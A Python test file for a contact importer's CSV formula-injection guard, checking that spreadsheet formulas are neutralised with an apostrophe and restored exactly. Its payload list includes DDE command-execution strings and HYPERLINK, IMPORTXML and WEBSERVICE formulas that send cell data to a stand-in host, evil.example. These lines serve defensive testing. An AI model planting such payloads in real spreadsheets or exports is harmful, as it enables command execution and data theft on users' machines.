"""Formulas are neutralised, and the reader gets back what was exported."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contact_importer.files.formula_guard import is_formula, neutralised, restored

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")',
    "==1",
    "=",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+49 30 1234=1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-@SUM(1)",
    "+",
    "-",
    "-" + "1" * 41,
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1+1\n=2+2",
    "+1\n=2",
)
HARMLESS = (
    "",
    "a",
    "ann@example.com",
    "+49 (30) 123-45/67",
    "-5.50",
    "+7 901 000 00 00",
    "'",
    "1=1",
)

tricky = st.text(alphabet=st.sampled_from("'=@+-\t\r\n＝＋－＠0123 ()./a;,\"|"), max_size=12)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_that_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert neutralised(payload) == "'" + payload
    assert restored(neutralised(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_that_harmless_text_stays(text: str) -> None:
    assert neutralised(text) == text
    assert restored(text) == text


def test_that_there_are_thirty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 30


@given(st.one_of(tricky, st.text()))
def test_that_restoring_is_the_exact_inverse(text: str) -> None:
    assert restored(neutralised(text)) == text
    assert not is_formula(neutralised(text))


@given(st.lists(st.lists(tricky, min_size=2, max_size=3), min_size=1, max_size=5))
def test_that_guarded_rows_survive_csv(rows: list[list[str]]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(
        [[neutralised(cell) for cell in row] for row in rows]
    )
    back = list(csv.reader(io.StringIO(text.getvalue(), newline=""), strict=True))
    assert [[restored(cell) for cell in row] for row in back] == rows
